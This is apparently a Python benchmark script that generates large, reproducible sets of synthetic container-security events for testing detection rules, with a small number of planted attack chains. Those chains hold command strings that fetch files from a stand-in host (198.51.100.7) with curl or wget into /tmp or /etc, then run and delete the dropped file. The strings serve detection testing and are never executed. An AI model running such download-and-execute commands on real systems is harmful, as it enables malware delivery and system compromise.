"""Events in the shape of Defend for Containers, as many as wanted, the same for the same seed.

    python benchmarks/generate.py --events 3000000 --parquet

Files go to `benchmarks/.data` and are made once per set of parameters. A chunk of events depends on the seed and
its number alone, so any number of workers gives the same bytes.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import multiprocessing
import random
from collections.abc import Iterator
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any, TypeAlias

import scenery
from scenery import EPOCH, Detail, Program, Session, World

HERE = Path(__file__).parent
DATA = HERE / ".data"
SOURCES = ("generate.py", "scenery.py", scenery.PROGRAMS, "columns.py", "parquet.py")
CHUNK = 20_000
CREATE_RUN_DELETE = "1dc56174-5d02-4ca4-af92-e391f096fb21"
CREATE_BY_HAND = "05a50000-9886-4695-ad33-3f990dc142e2"
TAIL_NS = 80_000_000
"""No story begins this close to the end of its chunk, so chunks never overlap in time."""

Draft: TypeAlias = "tuple[int, Session, str, str, str]"
"""Event time (ns since 1970), session, action, JSON text of `file` (or nothing), JSON text inside `process`."""


@dataclass(frozen=True)
class Load:
    """What to generate. `rate` is in events per second of event time, `attacks` in chains per million events."""

    events: int
    seed: int = 7
    containers: int = 200
    detail: Detail = "lean"
    streams: bool = True
    sequence_heavy: bool = False
    attacks: int = 40
    rate: int = 5_000

    def chunks(self) -> list[tuple[int, int]]:
        """Position of the first event and number of events of each chunk."""
        return [(first, min(CHUNK, self.events - first)) for first in range(0, self.events, CHUNK)]

    def planted(self, first: int, size: int) -> range:
        """Numbers of the attack chains in a chunk: even ones create, run, delete; odd ones create in /etc by hand."""
        if size < 1000:
            return range(0)
        return range(first * self.attacks // 1_000_000, (first + size) * self.attacks // 1_000_000)

    def expected(self) -> dict[str, int]:
        """Alerts owed by each founding rule, by rule id; nothing else in these events fires them."""
        chains = [number for chunk in self.chunks() for number in self.planted(*chunk)]
        by_hand = sum(number % 2 for number in chains)
        return {CREATE_RUN_DELETE: len(chains) - by_hand, CREATE_BY_HAND: by_hand}

    def options(self) -> list[str]:
        """These parameters as the command line takes them."""
        flags = {"--no-streams": not self.streams, "--sequence-heavy": self.sequence_heavy}
        valued = {name: getattr(self, name) for name in ("events", "seed", "containers", "detail", "attacks", "rate")}
        return [
            *(text for name, value in valued.items() for text in (f"--{name}", str(value))),
            *(flag for flag, on in flags.items() if on),
        ]

    def path(self, directory: Path, suffix: str) -> Path:
        """Where these events lie; the name changes with every parameter and with the generator itself."""
        code = b"".join((HERE / name).read_bytes() for name in SOURCES)
        key = hashlib.sha256(repr(self).encode() + code).hexdigest()[:10]
        kind = "heavy" if self.sequence_heavy else self.detail if self.streams else "unnamed"
        return directory / f"{kind}-{self.events}-{key}{suffix}"


class Chunk:
    """The stories of one chunk: each tells of one process, from fork to end, with the files it touches."""

    def __init__(self, load: Load, first: int, size: int) -> None:
        self.load, self.first, self.size = load, first, size
        self.rng = random.Random(f"{load.seed}/{first}")
        self.world: World = scenery.world(load.seed, load.containers, load.detail, streams=load.streams)
        self.begin = EPOCH * 1_000_000_000 + first * 1_000_000_000 // load.rate
        self.span = size * 1_000_000_000 // load.rate
        self.pid = 1000 + first % 4_000_000
        self.drafts: list[Draft] = []

    def moment(self, share: float = 1.0) -> int:
        """Some time in the leading share of the chunk."""
        return self.begin + int(self.rng.random() * max(1, share * self.span - TAIL_NS))

    def number(self) -> str:
        """Small numbers often, large ones rarely, so that arguments and paths repeat as they do in life."""
        return str(int(20_000 ** self.rng.random()))

    def process(self, session: Session, image: str, at: int) -> str:
        self.pid += 1
        whole = at // 1_000_000_000
        return (
            f'{image},{session.own},"entity_id":"{scenery.entity_id(session.node, self.pid, whole)}","pid":{self.pid}'
            f',"start":"{scenery.second(whole)}.{at // 1_000_000 % 1000:03d}Z",{session.kin}'
        )

    def add(self, at: int, session: Session, action: str, process: str, file: str = "") -> None:
        self.drafts.append((at, session, action, file, process))

    def run(self, session: Session, at: int, program: Program, number: str) -> int:
        """One process: fork, exec, its files, end. The time of its end."""
        forked = self.process(session, session.shell, at)
        image = f'"args":{number.join(program.args)},"args_count":{program.args_count},{program.image}'
        executed = image + forked[len(session.shell) :]
        self.add(at, session, "fork", forked + session.thread)
        at += 200_000 + int(self.rng.random() * 900_000)
        self.add(at, session, "exec", executed + session.thread + session.previous)
        for verb, parts in program.files:
            at += 50_000 + int(self.rng.random() * 400_000)
            self.touch(session, at, verb, number.join(parts), executed)
        at += 100_000 + int(self.rng.random() * 5_000_000)
        ended = f',"end":"{scenery.second(at // 1_000_000_000)}.{at // 1_000_000 % 1000:03d}Z","exit_code":0'
        self.add(at, session, "end", executed + session.thread + ended)
        return at

    def touch(self, session: Session, at: int, verb: str, path: str, process: str) -> None:
        """The events of one thing done to one file; a creating open gives two at the same time."""
        file = file_text(path)
        match verb:
            case "append":
                self.add(at, session, "open", process, file)
            case "truncate":
                self.add(at, session, "open", process, file)
                self.add(at + 20_000, session, "modification", process, file)
            case "remove":
                self.add(at, session, "deletion", process, file)
            case "rename":
                original = f'"Ext":{{"original":{{"name":"{path.rpartition("/")[2]}.new","path":"{path}.new"}}}}'
                self.add(at, session, "rename", process, f"{file},{original}")
            case _:
                self.add(at, session, "creation", process, file)
                self.add(at, session, "open", process, file)
        if verb == "unpack":
            self.add(at + 30_000, session, "modification", process, file)
        if verb == "scratch":
            self.add(at + 300_000, session, "deletion", process, file)

    def attack(self, number: int) -> None:
        at = self.moment(0.5)
        if number % 2:
            save = scenery.program("/usr/bin/wget", "wget -q -O /etc/job{n} http://198.51.100.7/", "write /etc/job{n}")
            self.run(self.rng.choice(self.world.terminals), at, save, str(number))
            return
        session = self.rng.choice(self.world.sessions)
        fetch = scenery.program("/usr/bin/curl", "curl -so /tmp/upd{n} http://198.51.100.7/{n}", "write /tmp/upd{n}")
        dropped = scenery.program(f"/tmp/upd{number}", f"/tmp/upd{number} -d", "remove /tmp/upd{n}")
        at = self.run(session, at, fetch, str(number))
        self.run(session, at + 1_000_000, dropped, str(number))

    def download(self, number: int) -> None:
        """First stage of the founding sequence, and nothing after it: one more open partial for ten seconds."""
        session, at, name = self.rng.choice(self.world.sessions), self.moment(), f"dl-{self.first + number}.bin"
        image = f'"args":["curl","-so","/tmp/{name}"],"args_count":3,"executable":"/usr/bin/curl","name":"curl"'
        self.add(at, session, "creation", self.process(session, image, at), file_text(f"/tmp/{name}"))

    def story(self) -> None:
        crowd = self.world.terminals if self.rng.random() < 0.01 else self.world.sessions
        self.run(self.rng.choice(crowd), self.moment(), self.rng.choice(self.world.programs), self.number())

    def ordered(self) -> list[Draft]:
        """As many drafts as the chunk holds, by time, a few of them a little out of order as real ones are."""
        for number in self.load.planted(self.first, self.size):
            self.attack(number)
        if self.load.sequence_heavy:
            for number in range(self.size // 2):
                self.download(number)
        while len(self.drafts) < self.size:
            self.story()
        drafts = sorted(self.drafts, key=lambda draft: draft[0])[: self.size]
        for row in self.rng.sample(range(1, self.size), self.size // 5_000):
            drafts[row] = (drafts[row - 1][0] - self.rng.randrange(3_000), *drafts[row][1:])
        return drafts

    def text(self) -> bytes:
        """The chunk as NDJSON."""
        ids = self.rng.randbytes(16 * self.size).hex()
        lines = []
        for row, (at, session, action, file, process) in enumerate(self.ordered()):
            whole, created = at // 1_000_000_000, at + 90_000
            touched = f',"file":{{{file}}}' if file else ""
            each = ids[32 * row : 32 * row + 32]
            lines.append(
                f'{{"@timestamp":"{instant(at)}",{session.heads[action]},"created":"{instant(created)}"'
                f',"id":"{each[:8]}-{each[8:12]}-{each[12:16]}-{each[16:20]}-{each[20:]}"'
                f',"ingested":"{scenery.second(whole - whole % 5 + 6)}Z","sequence":{self.first + row + 1}}}'
                f'{touched},"process":{{{process}}},{session.tail}}}\n'
            )
        return "".join(lines).encode()


def instant(at: int) -> str:
    return f"{scenery.second(at // 1_000_000_000)}.{at % 1_000_000_000:09d}Z"


def file_text(path: str) -> str:
    name = path.rpartition("/")[2]
    _, dot, extension = name.rpartition(".")
    return f'"name":"{name}","path":"{path}"' + (f',"extension":"{extension}"' if dot else "")


def chunk_text(task: tuple[Load, int, int]) -> bytes:
    return Chunk(*task).text()


def ndjson(load: Load, workers: int = 1) -> Iterator[bytes]:
    """The events of a load, chunk by chunk."""
    tasks = [(load, *chunk) for chunk in load.chunks()]
    if workers == 1:
        yield from map(chunk_text, tasks)
        return
    with multiprocessing.Pool(workers) as pool:
        yield from pool.imap(chunk_text, tasks)


def ensure(load: Load, directory: Path = DATA, *, parquet: bool = False) -> Path:
    """The NDJSON file of a load, or its Parquet twin; made now if it is not there yet."""
    directory.mkdir(parents=True, exist_ok=True)
    path = load.path(directory, ".ndjson")
    if not path.exists():
        partial = path.with_suffix(".partial")
        with partial.open("wb") as file:
            for text in ndjson(load, multiprocessing.cpu_count()):
                file.write(text)
        partial.rename(path)
    if not parquet:
        return path
    twin = path.with_suffix(".parquet")
    if not twin.exists():
        from parquet import write_parquet

        partial = twin.with_suffix(".partial")
        write_parquet(path, partial)
        partial.rename(twin)
    return twin


def main() -> None:
    options = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    options.add_argument("--events", type=int, default=100_000)
    options.add_argument("--seed", type=int, default=Load.seed)
    options.add_argument("--containers", type=int, default=Load.containers)
    options.add_argument("--attacks", type=int, default=Load.attacks, help="attack chains per million events")
    options.add_argument("--rate", type=int, default=Load.rate, help="events per second of event time")
    options.add_argument("--detail", choices=("lean", "full"), default=Load.detail, help="1.9 or 3.9 KB an event")
    options.add_argument("--no-streams", dest="streams", action="store_false", help="name no data stream")
    options.add_argument("--sequence-heavy", action="store_true", help="half of all events open a partial sequence")
    options.add_argument("--parquet", action="store_true", help="the same events as Parquet too")
    options.add_argument("--directory", type=Path, default=DATA)
    given: dict[str, Any] = vars(options.parse_args())
    directory, parquet = given.pop("directory"), given.pop("parquet")
    load = Load(**given)
    path = ensure(load, directory, parquet=parquet)
    print(json.dumps({"path": str(path), "bytes": path.stat().st_size, **asdict(load), "expected": load.expected()}))


if __name__ == "__main__":
    main()
